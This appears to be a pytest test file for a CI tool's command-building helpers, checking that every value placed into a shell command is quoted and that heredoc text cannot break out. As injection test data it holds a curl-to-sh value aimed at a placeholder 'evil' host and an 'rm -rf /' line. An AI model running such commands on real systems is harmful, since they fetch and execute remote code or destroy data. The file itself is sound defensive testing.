"""Every command that is printed quotes what it is filled with: `hyops_ci.text.shell` is the one place where a value enters a command."""

from __future__ import annotations

import ast
import re
import shlex
from collections.abc import Iterator
from pathlib import Path
from typing import Final

import pytest
from hypothesis import given
from hypothesis import strategies as st

import hyops_ci
from hyops_ci.text import heredoc, shell

PACKAGE = Path(hyops_ci.__file__).parent
PROGRAMS: Final = r"(?:hyops-ci|hyops|gh|git|vault|bao|sudo|systemctl|gcloud|aws|az|docker|pip|pipx|openssl|\./dev) (?=[a-z.-])"
SHORT: Final = r"(?:chown|chmod|curl|cp|mv|rm|mkdir|scp|ssh|tee|xargs|kill|\./config\.sh|\./svc\.sh) "
COMMAND: Final = re.compile(rf"(?:^|[\s`'\"(;|&:=])(?:{PROGRAMS}|{SHORT})(?:(?:(?!: )[^;()`])*[\s='\"/@,-])?$")
"""A text that ends within a command: what comes next is a word of it."""


def parts(node: ast.JoinedStr) -> Iterator[tuple[str, ast.expr]]:
    """Each value of an f-string, with the text before it; other values in that text are spelled `x`."""
    before = ""
    for each in node.values:
        if isinstance(each, ast.FormattedValue):
            yield before, each.value
            before += "" if is_shell(each.value) else "x"
        else:
            before += str(ast.literal_eval(each))


def is_shell(node: ast.expr) -> bool:
    return isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id in ("shell", "heredoc")


def within_a_command(text: str) -> bool:
    return bool(COMMAND.search(text))


def offences(tree: ast.AST) -> Iterator[str]:
    """Where a value enters a command without `shell`, or where `shell` is given a text that is not a literal."""
    for node in ast.walk(tree):
        if isinstance(node, ast.JoinedStr):
            for before, value in parts(node):
                if within_a_command(before) and not is_shell(value):
                    yield f"line {node.lineno}: {before[-60:]!r} takes {ast.unparse(value)}"
        if isinstance(node, ast.BinOp) and isinstance(node.op, (ast.Add, ast.Mod)) and isinstance(node.left, ast.Constant):
            text = node.left.value
            before = str(text).partition("%")[0] if isinstance(node.op, ast.Mod) else str(text)
            if within_a_command(before) and not is_shell(node.right) and not isinstance(node.right, ast.Constant):
                yield f"line {node.lineno}: {text!r} takes {ast.unparse(node.right)}"
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr in ("format", "format_map"):
            text = node.func.value.value if isinstance(node.func.value, ast.Constant) else ""
            if isinstance(text, str) and any(within_a_command(text[: found.start()]) for found in re.finditer(r"\{", text)):
                yield f"line {node.lineno}: {text!r} is formatted"
        if isinstance(node, ast.Call) and is_shell(node) and isinstance(node.func, ast.Name):
            literal = isinstance(node.args[0], ast.Constant) or (node.func.id == "heredoc" and is_shell(node.args[0]))
            if not literal:
                yield f"line {node.lineno}: {node.func.id}({ast.unparse(node.args[0])}) is not a literal"


@pytest.mark.parametrize("path", sorted(PACKAGE.rglob("*.py")), ids=lambda path: str(path.relative_to(PACKAGE)))
def test_no_command_is_filled_with_a_bare_value(path: Path) -> None:
    assert list(offences(ast.parse(path.read_text("utf-8")))) == []


@pytest.mark.parametrize(
    "source",
    [
        'f"gh workflow run {file} --ref main"',
        'f"gh workflow run dr.yml --ref {branch}"',
        'f"then: hyops-ci ledger show --service {service}; more"',
        'f"{first}; hyops-ci approve {url}"',
        'f"chmod go-w {path}"',
        'f"vault write {auth}/role/{role} -"',
        'f"git -C {place} config x"',
        'f"`hyops-ci evidence verify dr-evidence-{name}.tar`"',
        '"git add " + path',
        '"gh run cancel %s" % number',
        '"gh run cancel {}".format(number)',
        'shell(f"gh run cancel {number}")',
        "shell(template, value)",
    ],
)
def test_what_it_finds(source: str) -> None:
    assert list(offences(ast.parse(source)))


@pytest.mark.parametrize(
    "source",
    [
        "f\"{shell('gh run cancel {}', number)} ({url})\"",
        'f"hyops-ci ledger show ({url})"',
        'f"read {url}; what was done: hyops-ci ledger show"',
        'f"{name} is not installed"',
        'shell("gh run cancel {}", number) + "\\n"',
        "heredoc(shell('vault policy write {} -', name), 'POLICY', text)",
    ],
)
def test_what_it_lets_pass(source: str) -> None:
    assert list(offences(ast.parse(source))) == []


@given(st.lists(st.text(st.characters(exclude_characters="\x00"), max_size=20), min_size=1, max_size=4))
def test_a_value_is_one_word_of_the_command(values: list[str]) -> None:
    command = shell("gh workflow run" + " {}" * len(values) + " <site>", *values)
    assert shlex.split(command) == ["gh", "workflow", "run", *values, "<site>"]


def test_a_value_within_a_word() -> None:
    assert shell("gh run -f resume={} --ref {}", 212, "x;curl${IFS}evil|sh;") == "gh run -f resume=212 --ref 'x;curl${IFS}evil|sh;'"
    assert shell("hyops-ci evidence verify {}", "a b.tar") == "hyops-ci evidence verify 'a b.tar'"
    assert shell("hyops-ci doctor --service {}", "pg-ha/prod") == "hyops-ci doctor --service pg-ha/prod"


def test_what_a_command_reads_ends_where_it_says() -> None:
    assert heredoc("vault policy write x -", "POLICY", "path {}") == "vault policy write x - <<'POLICY'\npath {}\nPOLICY\n"
    with pytest.raises(ValueError, match="would end it"):
        heredoc("vault policy write x -", "POLICY", "path {}\nPOLICY\nrm -rf /")
